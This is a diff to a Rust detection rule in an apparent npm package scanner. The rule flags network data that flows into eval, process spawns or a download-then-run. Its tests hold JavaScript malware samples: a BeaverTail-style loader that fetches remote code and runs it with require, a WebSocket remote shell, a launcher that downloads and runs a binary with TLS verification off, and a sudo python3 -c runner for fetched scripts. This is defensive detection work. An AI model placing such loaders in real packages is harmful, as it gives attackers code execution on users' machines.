@@ -13,9 +13,11 @@ diligence_finding::declare_rule! {
     /// ## What it detects
     /// A value-flow path from data received over the network (HTTP responses, socket and WebSocket messages,
     /// through callbacks, promise chains, `await`, helpers and modules) into `eval`/`Function`/`vm`, a module
-    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium); a
-    /// download written to a file that the package then runs or loads (high, critical when the process is
-    /// detached with its output ignored). Also process spawns or `eval` of data received inside a network
+    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium, unless
+    /// the program is a wrapper such as `sudo`/`env` or the command runs an interpreter on inline code such as
+    /// `python3 -c`); a download written to a file that the package then runs or loads (high, critical when the
+    /// process is detached with its output ignored; high too when the download was fetched with TLS verification
+    /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
     /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
     /// package writes to a file as a constant (an agent's source in a template literal, started later by a
     /// service or a scheduled task) is analysed as code at the write, so its paths count too.
@@ -29,7 +31,8 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
-    /// from the project's own releases are not remote command execution and are not reported. Browser module
+    /// from the project's own releases, and binaries fetched from the npm registry itself (esbuild's install
+    /// fallback), are low. Browser module
     /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
     /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
     /// URL, or a process spawn of network data, is).
@@ -52,6 +55,26 @@ const SHELLS: &[&str] = &[
     "perl",
 ];
 
+/// Programs that run the command that follows them (`sudo python3 -c …`): the program that
+/// matters is the next word.
+const WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "nice", "timeout", "xargs", "stdbuf", "exec",
+];
+
+/// True when a command line runs an interpreter on inline code (`python3 -c`, `node -e`,
+/// `perl -e`, `sh -c`): network data in that command line is code, not an argument.
+fn runs_inline_code(command: &str) -> bool {
+    let words: Vec<&str> = command.split_whitespace().collect();
+    words.windows(2).any(|w| {
+        let prog = w[0].rsplit('/').next().unwrap_or(w[0]);
+        let interp = SHELLS
+            .contains(&prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
+            || SHELLS.contains(&prog)
+            || matches!(prog, "ruby" | "php");
+        interp && matches!(w[1], "-c" | "-e" | "--eval" | "-p")
+    })
+}
+
 /// Paths from network data to code, commands and module loads; downloads written then run.
 fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
     let mut out = Vec::new();
@@ -66,12 +89,21 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             .is_some_and(|(_, url)| !crate::text::url_host(url).is_empty());
         let sev = match path.sink {
             SinkKind::Exec => match path.path_key.as_deref() {
-                Some(prog) if !SHELLS.contains(&prog) && !prog.starts_with('$') => Severity::Medium,
+                Some(prog)
+                    if !SHELLS.contains(&prog)
+                        && !prog.starts_with('$')
+                        && !WRAPPERS.contains(&prog)
+                        && !runs_inline_code(&path.to.what) =>
+                {
+                    Severity::Medium
+                }
                 _ => Severity::Critical,
             },
             // A module loader evaluates the script whose URL it was given; a dev server's client
             // imports the modules its server names.
-            _ if !constant_url => Severity::Low,
+            // …unless the code is handed Node's `require`: a browser loader never does that,
+            // a remote-code loader (BeaverTail) does, whatever the URL.
+            _ if !constant_url && path.flags & flags::NODE_SCOPE == 0 => Severity::Low,
             SinkKind::Require => Severity::Medium,
             _ => Severity::Critical,
         };
@@ -89,10 +121,34 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             continue;
         };
         let Some(run) = p.flows.runs.iter().find(|r| r.key == key) else {
+            // The written file is not matched to a run by name, but the download was fetched
+            // with TLS verification off and the same file starts a process: a launcher that
+            // runs whatever a man-in-the-middle serves (no installer needs that).
+            if let Some(f) = p.file(&path.to.file)
+                && f.has(Kind::TlsOff)
+                && f.of(Kind::Spawn).any(|s| !s.detail.starts_with("require("))
+            {
+                out.push(flow_finding(
+                    &DOWNLOAD_EXEC,
+                    Severity::High,
+                    p,
+                    path,
+                    format!(
+                        "a download fetched with TLS verification off is written to `{key}` in a file that starts processes: {}",
+                        describe(path)
+                    ),
+                ));
+            }
             continue;
         };
         let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
-        let sev = match (verified, hidden) {
+        // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when the
+        // optional platform package is missing): the same trust as the package's own files.
+        let from_registry = p
+            .file(&path.from.file)
+            .and_then(|f| f.text.as_deref())
+            .is_some_and(|t| t.contains("https://registry.npmjs.org/"));
+        let sev = match (verified || from_registry, hidden) {
             (true, _) => Severity::Low,
             (false, true) => Severity::Critical,
             (false, false) => Severity::High,
@@ -204,7 +260,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
 
 #[cfg(test)]
 mod tests {
-    use crate::rules::test_util::{PJ, hits, scan};
+    use crate::rules::test_util::{PJ, hits, scan, severity};
 
     #[test]
     fn positive() {
@@ -447,5 +503,156 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
         ]);
         assert_eq!(hits(&s, "code/download-exec"), vec![]);
         assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A BeaverTail-style loader: a promise-wrapped `http(s).get` helper whose URL is its
+    /// parameter, the response handed to `new (Function.constructor)('require', …)` on a
+    /// timer. The URL is not constant in the helper, but the code gets Node's `require`.
+    #[test]
+    fn positive_promise_helper_loader_handing_require() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "cache.js",
+                "const get = (u) => new Promise((res, rej) => {\n  const lib = u.startsWith('https') ? require('https') : require('http');\n  lib.get(u, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => res({ data: b })); }).on('error', rej);\n});\nconst host = [107, 119, 119, 115].map(c => String.fromCharCode(c - 3)).join('');\nasync function warm() {\n  const { data } = await get(host + '://198.51.100.7/api');\n  const m = JSON.parse(data);\n  new (Function.constructor)('require', m.cookie)(require);\n}\nsetTimeout(warm, 3500);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("cache.js".to_string(), 9)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a browser module loader's promise-wrapped fetch of the URL it is
+    /// asked for, evaluated without Node's `require`, stays low.
+    #[test]
+    fn negative_promise_helper_loader_without_require() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "loader.js",
+                "const get = (u) => new Promise((res) => { fetch(u).then(r => r.text()).then(res); });\nexports.load = async function load(url) {\n  const src = await get(url);\n  return new Function('define', src)(define);\n};\n",
+            ),
+        ]);
+        assert_ne!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A remote-access class: messages of a WebSocket dispatched through `this.onMessage(raw)`
+    /// to a method that runs a field as a shell command.
+    #[test]
+    fn positive_websocket_message_dispatched_to_a_method() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tail.js",
+                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.onProbe(raw)); }\n  onProbe(raw) {\n    const p = JSON.parse(raw);\n    switch (p.kind) { case 'sh': return cp.exec(p.cmd, () => {}); default: return undefined; }\n  }\n}\nmodule.exports = Tail;\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("tail.js".to_string(), 7)]
+        );
+    }
+
+    /// A class whose method runs a fixed command and whose message handler only logs: no path.
+    #[test]
+    fn negative_class_method_with_fixed_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tail.js",
+                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.log(raw)); this.rev(); }\n  log(raw) { console.log(String(raw)); }\n  rev() { return cp.execFileSync('git', ['rev-parse', 'HEAD']); }\n}\nmodule.exports = Tail;\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// esbuild's install fallback: its platform binary fetched from the npm registry, written
+    /// and run to check its version, is low.
+    #[test]
+    fn negative_binary_from_the_npm_registry() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nfunction fetch(url) {\n  return new Promise((resolve, reject) => {\n    https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject);\n  });\n}\nasync function main() {\n  const bin = 'bin/tool';\n  fs.writeFileSync(bin, await fetch('https://registry.npmjs.org/@x/tool-linux/-/tool-linux-1.0.0.tgz'));\n  cp.execFileSync(bin, ['--version']);\n}\nmain();\n",
+            ),
+        ]);
+        assert_ne!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::High)
+        );
+    }
+
+    /// A first-run launcher: a binary fetched with `rejectUnauthorized: false` through a
+    /// helper, saved, then spawned under another name.
+    #[test]
+    fn positive_launcher_download_with_tls_off() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "bin/cli.js",
+                "const fs = require('fs');\nconst https = require('https');\nconst { spawn } = require('child_process');\nfunction download(url, dest) {\n  return new Promise((resolve) => {\n    https.get(url, { rejectUnauthorized: false }, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', resolve); });\n  });\n}\n(async () => {\n  const bin = '/tmp/rt/' + process.platform;\n  await download('https://dl.example.net/rt', bin);\n  spawn(bin, process.argv.slice(2), { stdio: 'inherit' });\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("bin/cli.js".to_string(), 6)]
+        );
+    }
+
+    /// The same launcher with TLS verification on is the prebuilt-binary installer class: not
+    /// reported when the run is not matched to the written file.
+    #[test]
+    fn negative_launcher_download_with_tls_on() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "bin/cli.js",
+                "const fs = require('fs');\nconst https = require('https');\nconst { spawn } = require('child_process');\nfunction download(url, dest) {\n  return new Promise((resolve) => {\n    https.get(url, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', resolve); });\n  });\n}\n(async () => {\n  const bin = '/tmp/rt/' + process.platform;\n  await download('https://dl.example.net/rt', bin);\n  spawn(bin, process.argv.slice(2), { stdio: 'inherit' });\n})();\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// A CI-gated post-install script: a fetched Python script run by `sudo python3 -c` inside
+    /// a shell command line (tj-actions/changed-files 2025 memory dump).
+    #[test]
+    fn positive_fetched_script_run_by_sudo_python() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "post.js",
+                "const { execSync } = require('child_process');\nconst https = require('https');\nfunction get(u) { return new Promise((res) => { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => res(b)); }); }); }\n(async () => {\n  const py = await get('https://gist.example.com/raw/x.py');\n  execSync(`sudo python3 -c \"$(printf '%s' '${Buffer.from(py).toString('base64')}' | base64 -d)\"`);\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A version fetched from the registry passed to `git checkout`: an argument of a fixed
+    /// program, medium.
+    #[test]
+    fn negative_fetched_value_as_a_git_argument() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tag.js",
+                "const { execSync } = require('child_process');\nmodule.exports = async function pin() {\n  const r = await fetch('https://api.example.com/latest');\n  const { tag } = await r.json();\n  execSync('git checkout ' + tag);\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
     }
 }
